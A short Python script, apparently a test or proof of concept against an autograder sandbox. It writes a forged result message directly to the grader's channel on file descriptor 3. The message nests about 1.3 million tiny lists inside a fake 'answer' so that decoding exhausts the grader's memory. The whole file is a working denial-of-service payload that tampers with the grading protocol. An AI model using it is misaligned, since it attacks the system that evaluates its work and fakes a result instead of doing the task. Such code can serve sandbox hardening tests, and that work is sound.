"""Sends a million empty lists in four megabytes, each of which costs the grader memory."""

import socket
import struct

from autograder.sandbox import wire

count = 1_300_000
tree = b"\xdd" + struct.pack(">I", count + 1) + b"\xa1l" + b"\x91\xa1l" * count
answer = b"\x92\xa1d\x83\xa6answer\xa8returned\xa5value" + tree + b"\xa7mutated\x91\xa1l"
header = b"\x92" + answer + b"\x90"
out = socket.socket(fileno=3)
out.sendall(b"".join(wire.encode(1, None)))
out.sendall(struct.pack("<4sQIQ", b"agw1", 2, len(header), 0) + header)
